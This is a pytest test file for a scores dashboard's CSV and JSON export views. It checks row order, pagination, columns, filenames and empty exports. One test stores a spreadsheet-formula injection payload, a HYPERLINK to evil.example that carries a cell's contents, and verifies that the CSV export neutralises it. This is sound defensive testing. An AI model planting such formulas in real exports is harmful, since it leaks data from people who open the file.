"""CSV and JSON exports of a scorer's filtered scores: the table's rows, every page, same order."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from html import unescape

import pytest

from dashboard.scores import views

from ..conftest import DEMO_NOW
from ..support import HTMX
from .conftest import demo_scores
from .test_score import AGENT_SCORE

SCORER = "/scores/answer-relevancy-scorer/"


def download(client, path: str) -> tuple[str, str]:
    response = client.get(path)
    assert response.status_code == 200 and response.streaming
    return response["Content-Type"], b"".join(response.streaming_content).decode()


def table_rows(client, query: str) -> list[tuple[str, str]]:
    """(id, score as shown) of every row the table shows, following its pages by cursor."""
    rows: list[tuple[str, str]] = []
    url = SCORER + query
    while url:
        html = client.get(url, headers={**HTMX, "HX-Target": "score-table"}).content.decode()
        rows += re.findall(r'<tr data-score-id="([^"]+)">\s*<td class="num"><a [^>]+>([\d.]+)</a>', html)
        next_link = re.search(r'<a href="([^"]+)"[^>]*rel="next"', html)
        url = unescape(next_link.group(1)) if next_link else ""
    return rows


@pytest.mark.parametrize(
    "query", ["?range=7d&source=LIVE", "?range=all&order=lowest", "?entity_id=supportAgent"]
)
def test_the_csv_export_holds_exactly_the_tables_rows(vera_client, monkeypatch, query):
    monkeypatch.setattr(views, "EXPORT_PAGE_SIZE", 7)  # several export pages
    shown = table_rows(vera_client, query)
    content_type, body = download(vera_client, SCORER + "export.csv" + query)
    assert content_type == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["id"], f"{float(r['score']):.3f}") for r in rows] == shown
    assert len(rows) > views.EXPORT_PAGE_SIZE  # read across several feed pages


@pytest.mark.parametrize("query", ["?range=7d&source=LIVE", "?range=all&order=lowest"])
def test_the_json_export_holds_exactly_the_tables_rows(vera_client, monkeypatch, query):
    monkeypatch.setattr(views, "EXPORT_PAGE_SIZE", 7)
    shown = table_rows(vera_client, query)
    content_type, body = download(vera_client, SCORER + "export.json" + query)
    assert content_type == "application/json; charset=utf-8"
    rows = json.loads(body)
    assert [(r["id"], f"{r['score']:.3f}") for r in rows] == shown
    assert len(rows) > views.EXPORT_PAGE_SIZE


def test_exports_match_the_demo_records_and_have_stable_columns(vera_client, demo_set):
    expected = demo_scores(demo_set, "answer-relevancy-scorer", since=timedelta(days=7), source="TEST")
    _, body = download(vera_client, SCORER + "export.csv?range=7d&source=TEST")
    reader = csv.reader(io.StringIO(body))
    header = next(reader)
    assert tuple(header) == views.EXPORT_COLUMNS == (
        "id", "createdAt", "scorerId", "score", "source", "entityType", "entityId",
        "runId", "threadId", "resourceId", "traceId", "spanId", "reason",
    )  # fmt: skip
    rows = [dict(zip(header, r, strict=True)) for r in reader]
    assert sorted(r["runId"] for r in rows) == sorted(s.payload["runId"] for s in expected)
    first = max(expected, key=lambda s: s.created_at)
    assert rows[0]["runId"] == first.payload["runId"]
    assert rows[0]["createdAt"] == first.created_at.strftime("%Y-%m-%dT%H:%M:%S.000Z")
    assert rows[0]["reason"] == first.payload["reason"]
    assert rows[0]["threadId"] == first.payload.get("threadId", "")
    _, json_body = download(vera_client, SCORER + "export.json?range=7d&source=TEST")
    records = json.loads(json_body)
    assert all(tuple(r) == views.EXPORT_COLUMNS for r in records)
    assert [r["id"] for r in records] == [r["id"] for r in rows]


def test_the_download_is_named_after_the_scorer_and_range(vera_client):
    response = vera_client.get(SCORER + "export.json?range=30d&order=lowest")
    assert response["Content-Disposition"] == 'attachment; filename="answer-relevancy-scorer-30d-lowest.json"'
    assert response["Cache-Control"] == "no-store"


def test_an_export_of_nothing_is_a_header_or_an_empty_list(vera_client):
    _, body = download(vera_client, SCORER + "export.csv?range=custom&since=2020-01-01&until=2020-01-02")
    assert body.strip() == ",".join(views.EXPORT_COLUMNS)
    _, body = download(vera_client, SCORER + "export.json?range=custom&since=2020-01-01&until=2020-01-02")
    assert json.loads(body) == []


def test_spreadsheet_formulas_in_stored_text_are_defused_in_csv(vera_client, empty_store):
    empty_store.scores.save_score(
        {**AGENT_SCORE, "reason": '=HYPERLINK("https://evil.example/?"&A1,"click")', "entityId": "@agent"},
        created_at=DEMO_NOW - timedelta(hours=1),
    )
    _, body = download(vera_client, SCORER + "export.csv?range=all")
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["reason"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert row["entityId"] == "'@agent"
    # JSON is data, not a spreadsheet: kept as stored.
    _, body = download(vera_client, SCORER + "export.json?range=all")
    assert json.loads(body)[0]["reason"].startswith("=HYPERLINK")


def test_the_page_links_to_both_exports_with_its_filters(vera_client):
    content = vera_client.get(SCORER + "?range=7d&source=LIVE&order=lowest").content.decode()
    assert (
        'href="/scores/answer-relevancy-scorer/export.csv?range=7d&amp;source=LIVE&amp;order=lowest"'
        in content
    )
    assert (
        'href="/scores/answer-relevancy-scorer/export.json?range=7d&amp;source=LIVE&amp;order=lowest"'
        in content
    )
